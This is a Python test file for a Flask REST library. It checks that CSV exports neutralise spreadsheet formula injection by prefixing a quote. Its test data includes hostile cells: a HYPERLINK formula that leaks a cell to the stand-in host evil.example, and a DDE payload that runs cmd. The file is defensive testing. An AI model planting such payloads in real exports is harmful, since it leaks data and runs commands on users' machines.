"""CSV formula injection: a text cell that a spreadsheet would run as a formula (it starts with
``=``, ``+``, ``-``, ``@``, tab or CR) is written with a leading ``'`` (OWASP's advice), unless
``TABLEREST_CSV_ESCAPE_FORMULAS`` is off. Numbers are never changed; JSON and NDJSON always
carry the text as stored."""

from __future__ import annotations

import csv
import decimal
import io
import urllib.request
from collections.abc import Iterator
from typing import Any

import orjson
import pytest
import sqlalchemy as sa
from flask import Flask
from flask.testing import FlaskClient

from conftest import rows
from factories import add_user, insert, live_server
from tablerest.extension import state_of
from tablerest.reflection import create_app as reflect_app
from testapp import Post, create_app

CSV = "text/csv"
NDJSON = "application/x-ndjson"

#: Texts a spreadsheet runs, one for each first character that makes a formula.
HOSTILE = {
    "equals": "=1+2",
    "hyperlink": '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
    "dde": "=cmd|' /C calc'!A0",
    "plus": "+1+2",
    "minus": "-1+2",
    "at": "@SUM(1+2)",
    "tab": "\t=1+2",
    "cr": "\r=1+2",
}
#: Texts with those characters elsewhere than first: never changed.
HARMLESS = {
    "middle-equals": "a=b",
    "middle-plus": "1+1",
    "middle-minus": "x-y",
    "middle-at": "jane@example.com",
    "after-newline": "line\n=1+2",
    "already-quoted": "'=1+2",
    "plain": "plain",
}
EVERY = {**HOSTILE, **HARMLESS}


@pytest.fixture
def stored(engine: sa.Engine) -> dict[str, int]:
    """One post per text, in its title and its body; the author's age is -5 and each
    post's rating -1.25 (numbers that start with a minus)."""
    alice = add_user(engine, "alice", age=-5)
    keys = insert(engine, Post, *({"user_id": alice, "title": text, "body": text,
                                   "rating": decimal.Decimal("-1.25")}
                                  for text in EVERY.values()))
    return dict(zip(EVERY, keys, strict=True))


def csv_table(client: FlaskClient, path: str) -> list[list[str]]:
    response = client.get(path, headers={"Accept": CSV}, buffered=True)
    assert response.status_code == 200, response.data[:500]
    assert response.mimetype == CSV
    return list(csv.reader(io.StringIO(response.data.decode("utf-8"), newline="")))


def csv_posts(client: FlaskClient) -> dict[str, tuple[str, str]]:
    """Each post's title and body as the CSV shows them, by the text's name."""
    table = csv_table(client, "/posts?fields=title,body&sort=id")
    assert table[0] == ["title", "body"]
    return dict(zip(EVERY, [(title, body) for title, body in table[1:]], strict=True))


def test_hostile_cells_are_neutralised_by_default(client: FlaskClient,
                                                  stored: dict[str, int]) -> None:
    shown = csv_posts(client)
    for name, text in HOSTILE.items():
        assert shown[name] == ("'" + text, "'" + text), name


def test_characters_after_the_first_are_left_alone(client: FlaskClient,
                                                   stored: dict[str, int]) -> None:
    shown = csv_posts(client)
    for name, text in HARMLESS.items():
        assert shown[name] == (text, text), name


def test_negative_numbers_stay_numbers(client: FlaskClient, stored: dict[str, int]) -> None:
    assert csv_table(client, "/users?fields=name,age") == [["name", "age"], ["alice", "-5"]]
    ratings = csv_table(client, "/posts?fields=rating")
    assert ratings[1:] == [["-1.25"]] * len(EVERY)
    assert csv_table(client, "/users?age=-5&fields=age")[1] == ["-5"]


def test_an_empty_text_stays_empty(client: FlaskClient, engine: sa.Engine) -> None:
    alice = add_user(engine, "alice")
    insert(engine, Post, {"user_id": alice, "title": "", "body": None})
    assert csv_table(client, "/posts?fields=title,body") == [["title", "body"], ["", ""]]


def test_json_and_ndjson_carry_the_text_as_stored(client: FlaskClient,
                                                  stored: dict[str, int]) -> None:
    listed = client.get("/posts?fields=title,body&sort=id&limit=100").json["items"]
    assert [(item["title"], item["body"]) for item in listed] == \
        [(text, text) for text in EVERY.values()]
    response = client.get("/posts?fields=title,body&sort=id", headers={"Accept": NDJSON},
                          buffered=True)
    lines = [orjson.loads(line) for line in response.data.splitlines()]
    assert lines == [{"title": text, "body": text} for text in EVERY.values()]
    item = client.get(f"/posts/{stored['equals']}").json
    assert item["title"] == HOSTILE["equals"]


@pytest.mark.parametrize("off", [False, "false", "0"], ids=["bool", "false", "zero"])
def test_the_setting_off_writes_every_text_as_stored(db_url: str, client: FlaskClient,
                                                     stored: dict[str, int], off: Any) -> None:
    plain = create_app(db_url, TABLEREST_CSV_ESCAPE_FORMULAS=off)
    shown = csv_posts(plain.test_client())
    assert shown == {name: (text, text) for name, text in EVERY.items()}
    # the setting is the app's: another app in the same process still escapes
    assert csv_posts(client)["equals"] == ("'=1+2", "'=1+2")


def test_the_environment_turns_it_off(db_url: str, stored: dict[str, int],
                                      monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("TABLEREST_CSV_ESCAPE_FORMULAS", "false")
    shown = csv_posts(create_app(db_url).test_client())
    assert shown["minus"] == (HOSTILE["minus"], HOSTILE["minus"])


def test_every_batch_of_a_long_stream_is_neutralised(client: FlaskClient,
                                                     engine: sa.Engine) -> None:
    """More rows than one fetch batch: the setting holds for the whole stream, which is
    written after the request's context is gone."""
    alice = add_user(engine, "alice")
    insert(engine, Post, *({"user_id": alice, "title": f"={index}"} for index in range(1200)))
    table = csv_table(client, "/posts?fields=title&sort=id")
    assert table[1:] == [[f"'={index}"] for index in range(1200)]


def test_a_relation_list_and_a_body_query_are_neutralised(client: FlaskClient,
                                                          engine: sa.Engine,
                                                          stored: dict[str, int]) -> None:
    (alice,) = rows(engine, "SELECT id FROM users WHERE name = 'alice'")
    listed = csv_table(client, f"/users/{alice['id']}/posts?fields=title&sort=id")
    assert listed[1] == ["'=1+2"]
    queried = client.open("/posts", method="QUERY", headers={"Accept": CSV}, buffered=True,
                          json={"where": {"id": stored["at"]}, "fields": ["title"]})
    assert queried.data.decode() == "title\r\n'@SUM(1+2)\r\n"


# -- through a real server ------------------------------------------------------------------


@pytest.fixture
def served(app: Flask) -> Iterator[str]:
    with live_server(app) as base:
        yield base


def test_a_real_server_streams_neutralised_cells(served: str, stored: dict[str, int]) -> None:
    request = urllib.request.Request(f"{served}/posts?fields=title&sort=id",
                                     headers={"Accept": CSV})
    with urllib.request.urlopen(request, timeout=30) as response:
        assert response.status == 200
        assert response.headers["X-Content-Type-Options"] == "nosniff"
        body = response.read().decode("utf-8")
    titles = [row[0] for row in csv.reader(io.StringIO(body, newline=""))][1:]
    assert titles == ["'" + text if name in HOSTILE else text for name, text in EVERY.items()]


# -- a reflected database --------------------------------------------------------------------


def test_a_reflected_table_neutralises_its_header_too(db_url: str) -> None:
    """Column names come from the database: ``tablerest serve --db`` exports them as cells."""
    engine = sa.create_engine(db_url)
    with engine.begin() as connection:
        connection.execute(sa.text('CREATE TABLE sheet (id INTEGER PRIMARY KEY, "=total" TEXT, '
                                   '"-note" VARCHAR(20), amount NUMERIC(8, 2))'))
        connection.execute(sa.text("INSERT INTO sheet VALUES (1, '=2+3', '-x', -7.50)"))
    engine.dispose()
    app = reflect_app(db_url)
    try:
        response = app.test_client().get("/sheet", headers={"Accept": CSV}, buffered=True)
        assert response.data.decode() == "id,'=total,'-note,amount\r\n1,'=2+3,'-x,-7.50\r\n"
        assert app.test_client().get("/sheet").json["items"] == [
            {"id": 1, "=total": "=2+3", "-note": "-x", "amount": "-7.50"}]
    finally:
        state_of(app).engine.dispose()
